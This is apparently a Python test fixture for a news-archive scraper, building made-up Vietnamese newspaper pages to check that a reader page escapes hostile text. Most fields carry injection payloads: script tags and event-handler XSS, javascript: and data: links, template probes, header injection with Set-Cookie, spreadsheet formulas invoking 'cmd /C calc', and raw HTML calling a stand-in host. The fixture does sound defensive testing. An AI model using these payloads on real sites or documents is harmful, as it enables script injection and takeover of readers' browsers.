"""Pages of a made-up paper whose every text tries to get out of the place where a reader's page prints it.

Run, each payload would set `window.hacked` or ask 127.0.0.9, which `tests.browser` sees. Nothing of it harms anybody.
"""

import unicodedata
from html import escape
from urllib.parse import quote

import msgspec

from archive.facts import Hints, Page
from config.declarations import Rules, UrlRules
from config.sources import Source

REACH = "http://127.0.0.9/"
HACK = "window.hacked=1"
SCRIPT = f"<script>{HACK}</script>"
MARKUP = {
    "script": SCRIPT,
    "attribute": f'"><img src="x" onerror="{HACK}"><img src="{REACH}anh.png">',
    "quote": f"' onmouseover='{HACK}' autofocus onfocus='{HACK}' x='",
    "textarea": f"</textarea>{SCRIPT}",
    "title": f"</title></style></noscript>{SCRIPT}",
    "svg": f'<svg onload="{HACK}"><a xlink:href="javascript:{HACK}">bấm</a></svg>',
    "template": "{{7*7}} {% include 'a' %} ${7*7} #{7*7} <%= 7*7 %>",
    "cdata": f"]]>{SCRIPT}",
    "comment": f"-->{SCRIPT}<!--",
    "json": f'</script>{SCRIPT}\\u003cscript\\u003e\\";{HACK}//',
    "markdown": f"[bấm](javascript:{HACK}) ![x]({REACH}anh.png) [a]: {REACH} <{REACH}>",
}
"""What would run where text is not escaped."""
WORD = "a" * 10_000
TITLES = MARKUP | {
    "control": "Chuông \x01\x07\x08\x1b[31mđỏ\x1b[0m\x7f",
    "nul": "Trước\x00sau",
    "rtl": "Ảnh \u202egnp.exe\u202c và \u2066ai đó\u2069 \u200f",
    "lines": "Một\u2028hai\u2029ba\u0085bốn",
    "header": "Tệp\r\nSet-Cookie: hacked=1\r\n\r\n<script>",
    "long-word": WORD,
    "long": "Bến đò " * 714 + "hết",
    "empty": "",
    "formula": f'=HYPERLINK("{REACH}","Bấm vào đây")',
    "formula-plus": "+84|' /C calc'!A0",
    "formula-minus": "-2+3+cmd|' /C calc'!A0",
    "formula-at": '@SUM(1+1)*cmd|" /C calc"!A0',
    "zalgo": "B" + "\u0300\u0301\u0323\u0489\u035c" * 40 + "ến đò" + "\u0336" * 40,
    "emoji": "Bến đò 👩‍👩‍👧‍👦🏳️‍🌈🇻🇳 \U000e0041",
    "nfd": unicodedata.normalize("NFD", "Bến đò chiều hòa bình, người Việt đợi nước lớn"),
    "search": "AND OR NOT \"mở NEAR( ^*: -'--;/*",
    "blank": "\u3164\u200b\u2060",
}  # fmt: skip
"""Titles by what is wrong with them."""
FIELDS = ("kicker", "lead", "paragraphs", "captions", "tags", "section", "credit")
"""Fields that each hold, in an article of their own, every one of `MARKUP`; what can hold but one, the first. Names of
authors are not among them: the cleaner takes no markup for a name."""
ADDRESSES = {
    "javascript": f"javascript:{HACK}",
    "javascript-odd": f" java\tscript:{HACK}",
    "data": f"data:text/html,{SCRIPT}",
    "vbscript": "vbscript:msgbox(1)",
    "foreign": f"{REACH}bai-7.html",
    "no-scheme": "//127.0.0.9/bai-8.html",
    "quote": f'/bai-900.html?a="onmouseover="{HACK}',
    "credentials": "http://song.example.vn@127.0.0.9/bai-9.html",
    "broken": "http://[::1/%zz",
}
"""Where links of one article lead: in a related box, in the text, and as tags."""
PATHS = {
    "slashes": "/bai/a/b/c/",
    "percent": "/bai/50%25%2F100%25",
    "tilde": "/bai/~a~2Fb~~",
    "dots": "/bai/...a..b.",
    "json": "/bai/a.json",
    "quotes": f"/bai/{quote(chr(34))}'a'%3Cscript%3E",
    "letters": f"/bai/{quote('bến đò')}%20%2B+",
    "query": "/bai/doc?id=1%26x%3D2",
    "word": "/bai/history",
}
"""Paths of articles without a number: the path is part of their identity."""
DATES = {
    "day-boundary": "05/03/2025 00:30",
    "day": "05/03/2025",
    "month": "Tháng 3/2025",
    "none": "",
}
PAPER = Source(
    id="hiem",
    title=f"Báo Hiểm {SCRIPT}",
    hosts=("hiem.example.vn",),
    urls=UrlRules(
        article=(r"-(?P<id>\d+)\.html$", "^/bai/"), section=(r"^/[a-z-]+$",), tag=("^/tag/",), keep_params=("id",)
    ),
    rules=Rules(
        container=(".body",), kicker=(".kicker",), title=("h1",), lead=(".lead",), authors=(".author",),
        credit=(".credit",), published=(".date",), section=(".crumb a",), tags=(".tags a",),
        captions=("figcaption",), image=("meta:og:image",), related=(".related a",),
    ),
)  # fmt: skip
REPRINTER = msgspec.structs.replace(PAPER, id="hiemchep", title="Báo Hiểm chép", hosts=("chep.example.vn",))
AUTHOR = "Lê O'Bưởi"
LINES = (
    "Sáng sớm, chuyến đò đầu tiên rời bến Cỏ May chở mười hai người và ba gánh rau sang chợ bên kia sông.",
    "Ông Lê Văn Bồng, người lái đò, nói con nước năm nay lên chậm, nhưng bãi bồi đã rộng thêm gần một sào.",
    "Từ tháng sau, xã sẽ đặt thêm hai biển báo và một chòi canh để học sinh không phải chờ dưới nắng.",
)
RAW = f"""<base href="{REACH}"><meta http-equiv="refresh" content="0;url={REACH}chuyen">
<link rel="prefetch" href="{REACH}truoc"><link rel="dns-prefetch" href="{REACH}"><link rel="preconnect" href="{REACH}">
<link rel="stylesheet" href="{REACH}kieu.css"><link rel="manifest" href="{REACH}m.json">
<style>@import url({REACH}nhap.css); body {{ background: url({REACH}nen.png) }}</style>
<script>{HACK}; fetch("{REACH}keo"); alert(1); parent.hacked=1; top.location="{REACH}dinh";
navigator.serviceWorker && navigator.serviceWorker.register("/sw.js"); window.open("{REACH}cua-so");</script>
<script src="{REACH}ngoai.js"></script>"""
RAW_BODY = f"""<img src="{REACH}anh.png" onerror="{HACK}"><iframe src="{REACH}khung"></iframe>
<iframe srcdoc="{escape(SCRIPT)}"></iframe><object data="{REACH}vat"></object><embed src="{REACH}nhung">
<form id="f" action="{REACH}mau" method="post"><input name="a" autofocus onfocus="{HACK}"><button>Gửi</button></form>
<script>document.getElementById("f").submit()</script><video src="{REACH}phim.mp4" autoplay onerror="{HACK}"></video>
<svg onload="{HACK}"><use href="{REACH}a.svg#b"/></svg><a href="{REACH}ping" ping="{REACH}dem" target="_top">Bấm</a>
<details open ontoggle="{HACK}"><summary>Mở</summary></details><marquee onstart="{HACK}">Chạy</marquee>"""
HINTS = Hints(via="section", title=f"Tít ở mục {SCRIPT}", anchor=MARKUP["attribute"], referrer=f"{REACH}{SCRIPT}")
HEADERS = {"content-type": f"text/html; charset=utf-8; x={SCRIPT}", "x-hiem": MARKUP["attribute"]}


def article(
    number: int | str,
    *,
    source: Source = PAPER,
    at: str = "2025-03-12T08:00:00+07:00",
    title: str | None = None,
    date: str = "05/03/2025 09:15",
    body: str = "",
    head: str = "",
    lines: tuple[str, ...] = (),
    links: dict[str, str] | None = None,
    **fields: tuple[str, ...],
) -> Page:
    """A kept page with one article, by its number or path. Texts come as they read, and are escaped; `body` and
    `head` are markup. `fields` are those of `FIELDS`."""
    said = {name: tuple(map(escape, texts)) for name, texts in fields.items()}
    path = number if isinstance(number, str) else f"/bai-{number}.html"
    name = f"Chuyện bến đò {number}" if title is None else title
    anchors = {kind: _links(kind, links or {}) for kind in ("inline", "related", "tag")}
    paragraphs = [f"{line} ({number})" for line in LINES] + list(map(escape, lines)) + list(said.get("paragraphs", ()))
    return Page(
        url=f"https://{source.hosts[0]}{path}",
        fetched_at=at,
        hints=HINTS if name else Hints(),
        headers=HEADERS,
        body=(
            f'<!doctype html><html lang="vi"><head><meta charset="utf-8"><title>{escape(name)}</title>{head}'
            f'<meta property="og:type" content="article"><meta property="og:image" content="{REACH}anh-bia.jpg"></head>'
            f'<body><div class="crumb">{_each("a", "", said.get("section", ("Đời sống",)))}</div>'
            f'{_each("p", "kicker", said.get("kicker", ()))}<h1>{escape(name)}</h1><p class="date">{escape(date)}</p>'
            f'{_each("p", "lead", said.get("lead", ("Bến đò Cỏ May vào mùa nước lên.",)))}'
            f'<div class="body">{_each("p", "", tuple(paragraphs))}<p>Bài cũ: {anchors["inline"]}.</p>{body}'
            f'{_figures(said.get("captions", ()))}</div>{_each("p", "author", (AUTHOR,))}'
            f'{_each("p", "credit", said.get("credit", ()))}<div class="related">{anchors["related"]}</div>'
            f'<div class="tags">{_each("a", "", said.get("tags", ()))}{anchors["tag"]}</div></body></html>'
        ).encode(),
    )  # fmt: skip


def _each(element: str, name: str, texts: tuple[str, ...]) -> str:
    address = ' href="/doi-song"' if element == "a" else ""
    return "".join(f'<{element} class="{name}"{address}>{text}</{element}>' for text in texts)


def _figures(captions: tuple[str, ...]) -> str:
    return "".join(f'<figure><img src="a.jpg"><figcaption>{text}</figcaption></figure>' for text in captions)


def _links(kind: str, links: dict[str, str]) -> str:
    told = ((f"{kind} {name} {SCRIPT}", address) for name, address in links.items())
    return ", ".join(f'<a href="{escape(address)}">{escape(text)}</a>' for text, address in told)
